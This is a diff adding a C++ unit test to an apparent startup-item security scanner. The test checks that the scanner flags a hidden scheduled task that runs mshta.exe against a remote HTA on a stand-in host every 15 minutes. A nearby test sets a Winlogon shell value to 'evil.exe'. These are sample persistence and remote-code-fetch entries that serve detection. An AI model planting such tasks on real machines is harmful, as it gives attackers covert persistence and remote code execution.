@@ -241,6 +241,37 @@ TEST_F(StartupScan, AServiceFromTempIsListedAndLeftAsItIsByARemoval) {
     EXPECT_TRUE(listed);
 }
 
+TEST_F(StartupScan, TasksAreListedPerProgramAndAHiddenOneRunningAScriptHostIsFound) {
+    machine.services.unavailable = true;
+    platform::ScheduledTask hidden;
+    hidden.path = "\\Updater";
+    hidden.hidden = true;
+    hidden.repeatMinutes = 15;
+    hidden.programs = {{"%SystemRoot%\\System32\\mshta.exe", "http://x.example/a.hta"}};
+    platform::ScheduledTask plain;
+    plain.path = "\\Vendor\\Backup";
+    plain.programs = {{"C:\\Program Files\\Backup\\b.exe", "/nightly"}};
+    machine.scheduledTasks.tasks = {hidden, plain};
+    Scan();
+    const std::string where = "C:\\Windows\\system32\\Tasks\\Updater";
+    const std::vector<std::string> findings = Findings();
+    EXPECT_NE(std::find(findings.begin(), findings.end(),
+                        "Task \\Updater: Is a hidden task that starts a script host, a system tool "
+                        "or an unsigned program from a folder any user can write | " +
+                            where + " | Startup item"),
+              findings.end());
+    report::MakeReport(*app);
+    const std::string& report =
+        machine.fileSystem.Find(report::ReportPath(app->DataFolder))->content;
+    EXPECT_NE(report.find("Task | " + where +
+                          " (hidden, every 15 minutes) | C:\\Windows\\System32\\mshta.exe "
+                          "http://x.example/a.hta |"),
+              std::string::npos);
+    EXPECT_NE(report.find("Task | C:\\Windows\\system32\\Tasks\\Vendor\\Backup | "
+                          "C:\\Program Files\\Backup\\b.exe /nightly |"),
+              std::string::npos);
+}
+
 // A place that holds one value is named by its category alone.
 TEST_F(StartupScan, WinlogonAndAppInitFindingsAreNamedByTheirPlace) {
     machine.registry.SetString(kUser, std::string(kNt) + "\\Winlogon", "Shell", "evil.exe");
